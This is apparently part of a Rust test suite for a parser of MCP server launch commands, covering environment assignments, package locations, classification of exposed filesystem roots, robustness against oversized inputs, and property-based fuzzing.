    assert_eq!(names(&["cmd", "/c", "set A=b&& npx p"]), ["A=b"]);
    assert_eq!(names(&["powershell", "-c", "$env:A='b'; npx p"]), ["A=b"]);
    assert_eq!(names(&["A=b npx p"]), ["A=b"]);
    let launch = read(&["sh", "-c", "A='b' npx p"]);
    let value = launch.target.assignments[0].value.as_ref().unwrap();
    assert_eq!(launch.place(value).unwrap().0, 2);
}

#[test]
fn places_lead_back_to_the_configuration() {
    let line = "npx -y '@s/p@1.0.0'";
    let args = ["-c", line];
    let launch = Launch::of(words("sh", &args, Shell::Posix));
    let part = &launch.target.package.as_ref().unwrap().part;
    let (source, range) = launch.place(part).unwrap();
    assert_eq!((source, &args[source - 1][range]), (2, "@s/p@1.0.0"));
}

#[test]
fn filesystem_roots_by_class() {
    use RootClass::{Drive, Home, Other, Parent, Workspace};
    for (path, class) in [
        ("/", Drive),
        ("C:\\", Drive),
        ("c:/", Drive),
        ("C:", Drive),
        ("//", Drive),
        ("/.", Drive),
        ("/x/..", Drive),
        ("/mnt/c", Drive),
        ("/c", Drive),
        ("/*", Drive),
        ("~", Home),
        ("~/", Home),
        ("$HOME", Home),
        ("${HOME}", Home),
        ("/home", Home),
        ("/home/x/", Home),
        ("/Users/x", Home),
        ("/root", Home),
        ("C:\\Users\\x", Home),
        ("c:\\users", Home),
        ("%USERPROFILE%", Home),
        ("${userHome}", Home),
        ("/mnt/c/Users/x", Home),
        ("~/..", Home),
        ("/home/x/../y", Home),
        ("${env:HOME}", Home),
        ("..", Parent),
        ("../..", Parent),
        ("./../", Parent),
        ("${workspaceFolder}/..", Parent),
        (".", Workspace),
        ("./", Workspace),
        ("${workspaceFolder}", Workspace),
        ("${workspaceFolder}/src", Workspace),
        ("${PWD}", Workspace),
        ("a/..", Workspace),
        ("~/src", Other),
        ("/home/x/src", Other),
        ("C:\\Users\\x\\src", Other),
        ("../x", Other),
        ("/srv", Other),
        ("src", Other),
        ("${ROOT}", Other),
        ("", Other),
        ("\\\\host\\share", Other),
        ("~other", Other),
    ] {
        assert_eq!(RootClass::of(path), class, "{path}");
    }
}

#[test]
fn filesystem_roots_of_launches() {
    let roots = |line: &[&str]| {
        let launch = read(line);
        filesystem_roots(&launch)
            .iter()
            .map(|r| {
                format!(
                    "{}{}:{}",
                    r.option.as_deref().unwrap_or(""),
                    launch.text(&r.part),
                    r.class.name()
                )
            })
            .collect::<Vec<_>>()
    };
    let server = "@modelcontextprotocol/server-filesystem";
    assert_eq!(roots(&["npx", "-y", server, "/", "~/x"]), ["/:drive", "~/x:other"]);
    assert_eq!(
        roots(&["cmd", "/c", "npx -y @modelcontextprotocol/server-filesystem C:\\Users\\x"]),
        ["C:\\Users\\x:home"]
    );
    assert_eq!(roots(&["node", "/x/src/filesystem/dist/index.js", "/"]), ["/:drive"]);
    assert_eq!(roots(&["docker", "run", "-i", "mcp/filesystem", "/projects"]), ["/projects:other"]);
    assert_eq!(roots(&["npx", "-y", "other", "/"]), [""; 0]);
    assert_eq!(roots(&["npx", "-y", "other", "--root", "/", "--x"]), ["--root/:drive"]);
    assert_eq!(
        roots(&["uvx", "p", "--allowed-dirs=/,~"]),
        ["--allowed-dirs/:drive", "--allowed-dirs~:home"]
    );
    assert_eq!(
        roots(&["uvx", "p", "--allowed-directories", "/a", "..", "--y"]),
        ["--allowed-directories/a:other", "--allowed-directories..:parent"]
    );
    assert_eq!(roots(&["x", "--repo", "https://h.x/r"]), [""; 0]);
}

#[test]
fn layers_are_limited() {
    let line = ["nice"; 64];
    assert_eq!(read(&line).wrappers.len(), 16);
}

#[test]
fn hostile_sizes_end_soon() {
    let braces = format!("{}x{}", "{".repeat(50_000), "}".repeat(50_000));
    read(&["powershell", "-c", &braces]);
    read(&["npx", &"a@npm:".repeat(50_000)]);
    read(&["npx", &format!("a@{}", "${".repeat(50_000))]);
    read(&["sh", "-c", &"curl -o a x;".repeat(20_000)]);
    read(&["sh", "-c", &"$(".repeat(50_000)]);
    read(&["cmd", "/c", &"% !".repeat(50_000)]);
    let nested = (0..12).fold("npx p".to_owned(), |line, _| format!("sh -c {line:?}; sh -c x"));
    read(&["sh", "-c", &nested]);
}

fn piece() -> impl Strategy<Value = String> {
    let known = proptest::sample::select(vec![
        "npx",
        "-y",
        "-c",
        "sh",
        "bash",
        "cmd",
        "/c",
        "powershell",
        "-Command",
        "uvx",
        "--from",
        "uv",
        "run",
        "--with",
        "docker",
        "exec",
        "-e",
        "-v",
        "--mount",
        "type=bind,src=",
        "env",
        "A=b",
        "sudo",
        "su",
        "-",
        "--",
        "mcp-remote",
        "--header",
        "A:",
        "mcp-guard",
        "serve",
        "deno",
        "npm:",
        "jsr:@",
        "go",
        "@",
        "nix",
        "#",
        "git+",
        "node",
        "-e",
        "$(",
        "`",
        "\"",
        "'",
        "&&",
        "|",
        ";",
        "<(",
        "${",
        "%",
        "é",
        "\u{1F600}",
        "pkg@1.0.0",
        "dnx",
        "--version",
        "[",
        "mcp-proxy",
        "-H",
        "supergateway",
        "--stdio",
        "ssh",
        "nvm",
        "mise",
        "x",
        "/",
        "C:\\",
        "~",
        " ",
        "=",
        ":",
        ",",
        "nix-shell",
        "--run",
        "python",
        "-m",
        "--root",
        "--entrypoint",
        "compose",
        "\n",
        "/cnpx",
        "op",
        "--command",
    ]);
    prop_oneof![4 => known.prop_map(str::to_owned), 1 => any::<String>()]
}

proptest! {
    #[test]
    fn nothing_panics_and_places_lie_inside(
        values in proptest::collection::vec(proptest::collection::vec(piece(), 0..5), 1..10),
        glue in "[ ]?",
        shell in proptest::sample::select(vec![Shell::Posix, Shell::Cmd, Shell::PowerShell]),
    ) {
        let values: Vec<String> = values.iter().map(|v| v.join(&glue)).collect();
        let args: Vec<&str> = values[1..].iter().map(String::as_str).collect();
        let launch = Launch::of(words(&values[0], &args, shell));
        for word in &launch.words {
            prop_assert!(values[word.source].get(word.range.clone()).is_some());
            prop_assert!(word.text.len() <= word.range.len());
        }
        let target = &launch.target;
        prop_assert!(target.arguments.end <= launch.words.len());
        prop_assert!(target.arguments.start <= target.arguments.end);
        let mut parts: Vec<&Part> = launch.packages().map(|p| &p.part).collect();
        parts.extend(target.remote_url.iter());
        parts.extend(target.image.iter().map(|i| &i.part));
        parts.extend(target.env_files.iter());
        parts.extend(target.bridge_headers.iter().flat_map(|h| h.value.iter().chain([&h.part])));
        parts.extend(target.assignments.iter().flat_map(|a| a.value.iter().chain([&a.part])));
        parts.extend(target.container_options.iter().filter_map(|o| o.value.as_ref()));
        let (mounts, roots) = (launch.mounts(), filesystem_roots(&launch));
        parts.extend(mounts.iter().map(|m| &m.part));
        parts.extend(roots.iter().map(|r| &r.part));
        for part in parts {
            prop_assert!(launch.words[part.word].text.get(part.range.clone()).is_some(), "{:?}", part);
            let (source, range) = launch.place(part).unwrap();
            prop_assert!(values[source].get(range).is_some());
        }
        for wrapper in &launch.wrappers {
            prop_assert!(wrapper.word < launch.words.len());
        }
    }

    #[test]
    fn root_classes_never_panic(path in any::<String>()) {
        let _ = RootClass::of(&path);
    }
}
